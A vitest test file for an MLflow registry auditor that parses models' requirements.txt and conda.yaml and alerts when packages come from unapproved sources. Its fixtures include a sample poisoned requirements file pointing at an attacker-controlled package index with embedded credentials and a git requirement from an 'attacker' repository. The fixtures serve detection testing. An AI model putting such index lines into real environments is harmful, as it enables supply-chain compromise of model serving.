import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { replayEvents } from '../../../bridge/replay.js';
import { MlflowConfig } from '../../../connectors/mlflow/config.js';
import { createMlflowConnector } from '../../../connectors/mlflow/index.js';
import type { ConnectorDeps } from '../../../core/connector.js';
import { Ingestor } from '../../../core/ingest.js';
import { packageSourceFactsOfCondaYaml, packageSourceFactsOfRequirements } from '../../../core/integrity/packages.js';
import { silentLogger } from '../../../core/log.js';
import { RulesConfig } from '../../../core/rules/engine.js';
import { NormalizedEvent } from '../../../core/schema/index.js';
import { Spool } from '../../../core/spool/index.js';
import { FakeMlflow } from './fake-mlflow.js';

/**
 * An MLflow model's own environment files (requirements.txt, conda.yaml, python_env.yaml, as `mlflow.<flavor>.log_model`
 * writes them) say where `pyfunc`'s env restore and `mlflow models serve` install its packages from: the registry
 * auditor reads them while hashing, into `ml.model.package_sources`, and serving.unverified_image judges them.
 */
const T0 = 1755680000000;
const RULE = 'serving.unverified_image';
let fake: FakeMlflow;
let dir: string;
let spool: Spool | undefined;

beforeEach(async () => {
  fake = new FakeMlflow();
  await fake.start();
  dir = mkdtempSync(join(tmpdir(), 'mltrail-mlflow-env-'));
});
afterEach(async () => {
  spool?.close();
  spool = undefined;
  await fake.stop();
  rmSync(dir, { recursive: true, force: true });
});

/** One auditor pass over the fake registry; its committed events. */
async function audit(): Promise<NormalizedEvent[]> {
  spool = Spool.open({ dir });
  const config = MlflowConfig.parse({ poll: { tracking_uri: fake.url, page_size: 50, max_attempts: 2, retry_initial_ms: 5, retry_max_ms: 10, request_timeout_ms: 3000 } });
  const deps: ConnectorDeps<MlflowConfig> = { config, ingest: new Ingestor(spool, silentLogger()), spool, logger: silentLogger(), server: { host: '127.0.0.1', port: 0, bodyLimitBytes: 1 << 20 }, dataDir: dir, keepRaw: true, env: {} };
  const poller = createMlflowConnector({ now: () => T0 + 3_600_000 }).pollers!(deps)[0] as unknown as { runOnce(): Promise<boolean> };
  expect(await poller.runOnce()).toBe(true);
  return spool.read('test', 100_000, 0).map((r) => NormalizedEvent.parse(JSON.parse(r.body)));
}
const alertsOf = (evs: NormalizedEvent[], rules: Record<string, unknown> = {}) => replayEvents(evs, { rules: RulesConfig.parse(rules) }).alerts.filter((a) => a.rule_id === RULE);
const hashOf = (evs: NormalizedEvent[], name: string) => evs.find((e) => e.action === 'model_version.hash_registered' && e.resource?.name === name)!;

/** The files `mlflow.sklearn.log_model` writes (MLflow 2.17), `requirements` as its requirements.txt. */
const sklearnModel = (requirements: string, conda?: string) => ({
  MLmodel: 'artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.sklearn\n    python_version: 3.11.9\n',
  'model.pkl': 'pickled-weights',
  'requirements.txt': requirements,
  'conda.yaml': conda ?? 'channels:\n- conda-forge\ndependencies:\n- python=3.11.9\n- pip<=24.2\n- pip:\n  - mlflow==2.17.0\n  - cloudpickle==3.0.0\n  - scikit-learn==1.5.2\nname: mlflow-env\n',
  'python_env.yaml': 'python: 3.11.9\nbuild_dependencies:\n- pip==24.2\n- setuptools==74.1.2\n- wheel==0.44.0\ndependencies:\n- -r requirements.txt\n',
});

describe('MLflow model environment files', () => {
  it('a version whose requirements.txt or conda.yaml names a foreign index, a git+https requirement or a user channel alerts on serving.unverified_image; MLflow\'s defaults do not', async () => {
    fake.addModel('fraud', T0);
    fake.addModel('churn', T0);
    fake.addModel('plain', T0);
    fake.addVersion('fraud', '1', T0 + 10, sklearnModel('--extra-index-url https://ci:tok3n@pypi.attacker.example/simple\nmlflow==2.17.0\ncloudpickle==3.0.0\nscikit-learn==1.5.2\nfraud-features @ git+https://github.com/attacker/features.git@main\n'));
    fake.addVersion('churn', '1', T0 + 20, sklearnModel('mlflow==2.17.0\n', 'channels:\n- conda-forge\n- some-user\ndependencies:\n- python=3.11.9\n- pip:\n  - --index-url https://pypi.org/simple\n  - mlflow==2.17.0\n'));
    fake.addVersion('plain', '1', T0 + 30, sklearnModel('mlflow==2.17.0\ncloudpickle==3.0.0\nscikit-learn==1.5.2\n'));
    const evs = await audit();
    const fraud = hashOf(evs, 'fraud');
    expect(fraud.ml?.model?.package_sources).toEqual(['conda:conda-forge', 'https://[redacted]@pypi.attacker.example/simple', 'git+https://github.com/attacker/features.git@main']);
    expect(JSON.stringify(fraud)).not.toContain('tok3n');
    expect(hashOf(evs, 'churn').ml?.model?.package_sources).toEqual(['conda:conda-forge', 'conda:some-user', 'https://pypi.org/simple']);
    expect(hashOf(evs, 'plain').ml?.model?.package_sources).toEqual(['conda:conda-forge']);

    const alerts = alertsOf(evs).sort((a, b) => (String(a.details?.model) < String(b.details?.model) ? 1 : -1));
    expect(alerts.map((a) => [a.entity.id, a.severity, a.details?.package_sources])).toEqual([
      ['fraud/1', 'high', ['https://[redacted]@pypi.attacker.example/simple', 'git+https://github.com/attacker/features.git@main']],
      ['churn/1', 'high', ['conda:some-user']],
    ]);
    expect(alerts[0]!.summary).toContain('its environment installs packages from https://[redacted]@pypi.attacker.example/simple, not an allowed package source');
    const allowed = alertsOf(evs, { [RULE]: { allowed_package_sources: ['pypi.org', 'pypi.attacker.example', 'github.com/attacker/*'], allowed_conda_channels: ['conda-forge', 'some-user'] } });
    expect(allowed).toEqual([]);
  });

  it('a `${VAR}` index in requirements.txt is unverifiable: medium, unless trust_hidden_package_sources', async () => {
    fake.addModel('fraud', T0);
    fake.addVersion('fraud', '1', T0 + 10, sklearnModel('--index-url ${PIP_INDEX}\nmlflow==2.17.0\n'));
    const evs = await audit();
    expect(hashOf(evs, 'fraud').ml?.model?.package_sources_unverifiable).toEqual(['--index-url ${PIP_INDEX}: PIP_INDEX not set in the request']);
    expect(alertsOf(evs).map((a) => a.severity)).toEqual(['medium']);
    expect(alertsOf(evs, { [RULE]: { trust_hidden_package_sources: true } })).toEqual([]);
  });
});

describe('the parsers', () => {
  it('requirements: option lines, continuations, comments, URL requirements; a local -r names nothing', () => {
    expect(packageSourceFactsOfRequirements('# pinned\n-i https://a.example/simple\n--find-links \\\n  https://f.example/wheels\nx==1 # --index-url https://not.read/\n-r base.txt\ny @ https://w.example/y-1.whl\n').sources).toEqual([
      'https://a.example/simple', 'https://f.example/wheels', 'https://w.example/y-1.whl',
    ]);
  });
  it('conda.yaml: channels (URL or name; nodefaults is none), `channel::pkg`, pip lines; python_env.yaml lines; no YAML, nothing', () => {
    expect(packageSourceFactsOfCondaYaml('channels: [nodefaults, https://conda.corp.example/ml]\ndependencies: [other::pkg, {pip: ["--extra-index-url https://e.example/s"]}]\n').sources).toEqual([
      'https://conda.corp.example/ml', 'https://e.example/s', 'conda:other',
    ]);
    expect(packageSourceFactsOfCondaYaml('python: 3.11\ndependencies:\n- -r requirements.txt\n- --extra-index-url https://e.example/s\n').sources).toEqual(['https://e.example/s']);
    expect(packageSourceFactsOfCondaYaml(': bad: [yaml')).toEqual({ sources: [], unverifiable: [] });
    expect(packageSourceFactsOfCondaYaml('- a list')).toEqual({ sources: [], unverifiable: [] });
  });
});
